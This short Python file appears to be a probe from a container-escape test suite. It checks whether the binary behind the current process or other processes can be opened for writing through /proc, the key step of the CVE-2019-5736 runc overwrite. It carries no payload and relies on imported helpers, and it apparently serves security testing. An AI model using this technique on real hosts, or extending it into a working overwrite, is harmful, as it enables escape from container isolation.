"""Overwrites the program that a process outside of us was started from (CVE-2019-5736)."""
# outside: unsure

import os

from attempt import attempt, opened_for_writing


@attempt
def main():
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
    held_open = os.open("/proc/self/exe", os.O_PATH)
    return opened_for_writing("/proc/self/exe", *(f"/proc/{pid}/exe" for pid in pids), f"/proc/self/fd/{held_open}")
